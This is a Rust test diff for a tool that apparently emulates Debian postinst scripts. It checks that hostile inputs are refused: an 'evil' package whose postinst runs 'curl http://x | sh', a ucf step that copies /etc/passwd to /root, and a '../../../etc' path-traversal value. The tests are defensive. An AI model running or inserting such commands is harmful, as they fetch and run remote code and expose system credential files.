@@ -112,6 +112,60 @@ fn users_links_and_alternatives_are_made() {
 }
 
 #[test]
+fn copies_links_and_joined_files_are_made() {
+    let copy = "# Automatically added by dh_ucf/13\n\tucf --three-way \"/usr/share/office/main.xcd\" \
+                \"/etc/office/main.xcd\"\n\tucf /etc/passwd /root/x\n# End automatically added section\n";
+    let module = "# Automatically added by dh_nginx\nfor confpair in mod-a.conf:50-mod-a.conf ../x:../../../etc/y ; do\n\
+                  true\ndone\n# End automatically added section\n";
+    let users =
+        "# Automatically added by dh_installsysusers\nsystemd-sysusers x.conf\n# End automatically added section\n";
+    let debs = [
+        FakeDeb::new("office").file("usr/share/office/main.xcd", "text").member("postinst", copy),
+        FakeDeb::new("libnginx-mod-a")
+            .file("usr/share/nginx/modules-available/mod-a.conf", "")
+            .member("postinst", module),
+        FakeDeb::new("libgs-common")
+            .file("usr/sbin/update-gsfontmap", "")
+            .file("etc/ghostscript/fontmap.d/20.conf", "two\n")
+            .file("etc/ghostscript/fontmap.d/10.conf", "one\n")
+            .file("etc/ghostscript/fontmap.d/10.bak", "no\n"),
+        FakeDeb::new("cron-daemon-common")
+            .entry("var/spool/cron/crontabs", Kind::Directory, 0o755, b"")
+            .member("postinst", "addgroup --system crontab\n"),
+        FakeDeb::new("users")
+            .file("usr/lib/sysusers.d/x.conf", "u worker - \"Works\" /var/work\nu root2 0\n")
+            .member("postinst", users),
+    ];
+    let added = added(&debs);
+    assert_eq!(text(&added, "etc/office/main.xcd"), "text");
+    assert!(!paths(&added).contains(&"root/x".to_owned()), "only files of /etc are copied");
+    assert_eq!(text(&added, "var/lib/ghostscript/fonts/Fontmap"), "one\ntwo\n");
+    let kind = |path: &str| added.tree.get(&LayerPath::new(path).unwrap()).unwrap().clone();
+    let link = NodeKind::Symlink("/usr/share/nginx/modules-available/mod-a.conf".into());
+    assert_eq!(kind("etc/nginx/modules-enabled/50-mod-a.conf").kind, link);
+    let folder = kind("var/spool/cron/crontabs");
+    assert_eq!((folder.mode, folder.uid, folder.gid), (0o1730, 0, 999));
+    assert_eq!(text(&added, "etc/group"), "root:*:0:\ncrontab:*:999:\nworker:*:998:\nroot2:*:997:\n");
+    assert!(text(&added, "etc/passwd").contains("\nworker:*:998:998:Works:/var/work:/usr/sbin/nologin\nroot2:*:997:"));
+}
+
+#[test]
+fn graphviz_draws_with_the_plugins_that_are_known_alone() {
+    let plugin =
+        |deb: FakeDeb, name: &str| deb.link(&format!("usr/lib/x86_64-linux-gnu/graphviz/libgvplugin_{name}.so.6"), "x");
+    let known = ["core", "dot_layout", "gd", "neato_layout", "pango", "visio", "webp", "xlib"];
+    let with = |plugins: &[&str]| {
+        let library = plugins.iter().fold(FakeDeb::new("libgvc6").version("2.42.2-7"), |deb, name| plugin(deb, name));
+        [library, FakeDeb::new("graphviz").file("usr/sbin/dot", "").member("postinst", "dot -c\n")]
+    };
+    let made = text(&added(&with(&known)), "usr/lib/x86_64-linux-gnu/graphviz/config6a");
+    assert!(made.contains("libgvplugin_pango.so.6 cairo {"), "{made}");
+    refused(&with(&known[1..]), "`dot -c` would have to run, and no output format works without: its plugins are");
+    let newer = [FakeDeb::new("libgvc6").version("12.0-1"), with(&known)[1].clone()];
+    refused(&newer, "package graphviz: cannot do what its postinst does: `dot -c` would have to run, and no output");
+}
+
+#[test]
 fn an_unknown_script_is_refused_by_name_unless_it_may_stay_undone() {
     let deb = FakeDeb::new("evil").file("usr/bin/evil", "x").member("postinst", "#!/bin/sh\ncurl http://x | sh\n");
     refused(std::slice::from_ref(&deb), "package evil: cannot do what its postinst does: curl http://x");
